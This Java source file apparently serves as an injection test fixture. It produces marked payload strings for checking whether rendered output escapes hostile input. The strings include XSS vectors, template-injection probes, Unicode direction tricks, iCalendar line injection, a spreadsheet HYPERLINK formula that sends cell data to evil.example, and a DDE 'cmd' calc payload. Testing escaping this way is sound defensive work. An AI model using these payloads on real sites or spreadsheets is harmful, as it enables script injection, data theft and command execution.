package org.entente.attack;

import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;

/** Words that would break out of wherever they are shown, each with a mark of its own by which it is known again. */
final class Naughty {

    private static final Pattern MARK = Pattern.compile("mark\\d+x");

    /** What a template would make of the sum in these words. */
    static final String SUM = "133700147";

    /**
     * The mark stands where it leaves them their sting: out of an attribute, an element, a title and a text area; out of a
     * script and a CDATA section; handlers; out of JSON, with templates; addresses that run; separators of lines and letters
     * that turn the others round; a formula; and lines of a calendar.
     */
    private static final List<String> WORDS = List.of(
            "%s \"'><b class=\"naughty\">bold</b><script>alert(7)</script></title></textarea></option><svg/onload=alert(7)>",
            "%s </script><img class=naughty src=x onerror=alert(7)>]]></title></text><script type=\"module\">alert(7)</script>",
            "%s x\" class=\"naughty\" autofocus onfocus=\"alert(7)\" x=\"' class='naughty' onmouseover='alert(7)' x='",
            "%s \\\"}]}</script><i class='naughty'>&lt;b class=naughty&gt;</i><!--<script>alert(7)//--> {0} {1,date}"
                    + " ${7*19100021} {{7*19100021}} #{7*19100021} *{7*19100021} <%%= 7*19100021 %%>",
            "javascript:alert(7)//%s\"'><a class=naughty href=\"javascript:alert(7)\">read</a><base class=naughty href=\"//evil.example/\">",
            "data:text/html,%s<script class=naughty>alert(7)</script>\u2028\u2029\u0085 \u202Egnp.lmth\u202C \u2066<b class=naughty>\u2069",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"%s\")",
            "@SUM(1+1)*cmd|' /C calc'!A0 %s",
            "%s, words\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-NAUGHTY:1\r\n<b class=naughty>words</b>");

    private int given;

    /** The next of them, so that every page shows several kinds. */
    String next() {
        var word = WORDS.get(given % WORDS.size());
        return word.formatted("mark" + ++given + "x");
    }

    /** Which of them stand in what was said. */
    static Set<String> marks(String said) {
        var marks = new TreeSet<String>();
        MARK.matcher(said).results().forEach(mark -> marks.add(mark.group()));
        return marks;
    }
}
